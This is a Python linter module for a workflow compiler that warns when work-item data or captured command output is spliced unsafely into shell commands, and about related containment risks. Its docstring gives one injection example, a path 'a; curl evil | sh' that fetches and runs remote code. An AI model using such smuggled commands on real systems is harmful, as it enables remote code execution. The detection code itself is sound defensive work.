"""Lint: legal workflows that are likely to hurt. Warnings, errors under `validate --strict`.

P601, data spliced into a shell command as script text: a map or foreach item comes from data
(a linter's report, a file list, an issue tracker), a capture from a command's output, and
`rm ${item.path}` lets a path such as `a; curl evil | sh` run as a command. Quotes do not help:
the value is pasted into the script before the shell reads it, so `"${item}"` runs `$(...)`,
backticks and `"`, and `'${item}'` runs `'`. Only two forms are safe, and every other splice of
an item or a capture into `shell:` is reported: the `:sh` modifier (`${item.path:sh}`, one
single-quoted word), or the environment (`"$PRODIGY_ITEM"`, `"$PRODIGY_VAR_<name>"`), which
the shell expands as data. Numbers and booleans a capture carries (`.exit_code`, `.success`,
`.duration`) cannot inject and are not reported. Item data in `working_dir` is P603.

P602, a map input that names a missing file (`lint_input.py`).

P604, `allow_outside: true`: the step opts out of containment on purpose, but whoever runs the
workflow should see, once, before it runs, that a step may work outside the project.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from prodigy.compiler.commands.foreach import Foreach
from prodigy.compiler.commands.shell import Shell
from prodigy.compiler.lint_input import missing_input
from prodigy.compiler.model import Step, Text, substeps
from prodigy.compiler.model_workflow import Workflow, walk_steps
from prodigy.compiler.source import SourceMap
from prodigy.runtime.diagnostics import Diagnostic, Severity

# What the template lexer reads as references (`grammar/template.lark`): `$${` is an escape.
_REF = re.compile(r"\$\$\{|\$\{[^}]*\}|\$[A-Za-z_][A-Za-z0-9_]*")
_ITEM_ROOTS = frozenset({"item", "item_json"})
# Data roots every command publishes: the output of the latest shell or claude step.
_OUTPUT_ROOTS = frozenset({"shell", "claude", "CAPTURED_OUTPUT"})
_SCALAR_FIELDS = frozenset({"exit_code", "success", "duration"})
HINT = ("write `${item.x:sh}` (quoted for the shell, one word) or read it from the environment: "
        '"$PRODIGY_ITEM", "$PRODIGY_VAR_<name>"')


def lint(workflow: Workflow, source_map: SourceMap) -> list[Diagnostic]:
    found: list[Diagnostic] = []
    fed = {id(step) for step in _fed_by_data(workflow)}
    captures = _OUTPUT_ROOTS | _capture_names(workflow)
    for step in walk_steps(workflow):
        if isinstance(step.command, Shell):
            roots = captures | _ITEM_ROOTS if id(step) in fed else captures
            found.extend(_unsafe_splices(step.command.command, roots, source_map))
        if id(step) in fed and step.working_dir is not None:
            found.extend(_item_dirs(step.working_dir, source_map))
        if step.allow_outside:
            found.append(Diagnostic(
                "P604", "allow_outside: this step's working_dir or write_file path may lie "
                "outside the run's directory", step.span, severity=Severity.WARNING))
    found.extend(missing_input(workflow, source_map))
    return found


def _capture_names(workflow: Workflow) -> frozenset[str]:
    names: set[str] = set()
    for step in walk_steps(workflow):
        if step.capture is not None:
            names.add(step.capture.name)
        names.update(extract.name for extract in step.extracts)
    return frozenset(names)


def _fed_by_data(workflow: Workflow) -> Iterator[Step]:
    """Steps whose `${item}` comes from data: map agents and foreach over a command's output.

    A literal foreach list is written by the workflow's author, like the command itself.
    """
    roots: list[Step] = list(workflow.map.agent) if workflow.map is not None else []
    for step in walk_steps(workflow):
        command = step.command
        if isinstance(command, Foreach) and command.command is not None:
            roots.extend(command.body)
    stack = list(roots)
    while stack:
        step = stack.pop()
        yield step
        stack.extend(substeps(step))


def _unsafe_splices(text: Text, roots: frozenset[str],
                    source_map: SourceMap) -> Iterator[Diagnostic]:
    for match in _REF.finditer(text.value):
        ref = match.group(0)
        if ref == "$${" or not _unsafe(ref, roots):
            continue
        span = (source_map.char_span(text.path, text.value, match.start(), match.end())
                if text.path is not None else text.span)
        what = "work-item data" if _root(ref) in _ITEM_ROOTS else "captured output"
        yield Diagnostic("P601", f"{what} `{ref}` is spliced into a shell command as script "
                         "text (quotes do not stop it)", span, hint=HINT,
                         severity=Severity.WARNING)


def _root(ref: str) -> str:
    body = ref[2:-1] if ref.startswith("${") else ref[1:]
    return re.split(r"[.\[:]", body, maxsplit=1)[0]


def _unsafe(ref: str, roots: frozenset[str]) -> bool:
    if _root(ref) not in roots:
        return False
    if not ref.startswith("${"):
        return True  # `$item`
    path, sep, _default = ref[2:-1].partition(":-")
    if path.endswith(":sh") and not sep:
        return False  # (a default is pasted as written, unquoted)
    last = re.split(r"[.\[]", path)[-1].rstrip("]")
    return last not in _SCALAR_FIELDS


def _item_dirs(text: Text, source_map: SourceMap) -> Iterator[Diagnostic]:
    """P603: a directory named by item data; the run refuses one outside the project, but
    inside it the data still picks where the step writes."""
    for match in _REF.finditer(text.value):
        if match.group(0) != "$${" and _root(match.group(0)) in _ITEM_ROOTS:
            span = (source_map.char_span(text.path, text.value, match.start(), match.end())
                    if text.path is not None else text.span)
            yield Diagnostic("P603", f"work-item data `{match.group(0)}` picks the step's "
                             "working_dir", span, severity=Severity.WARNING)
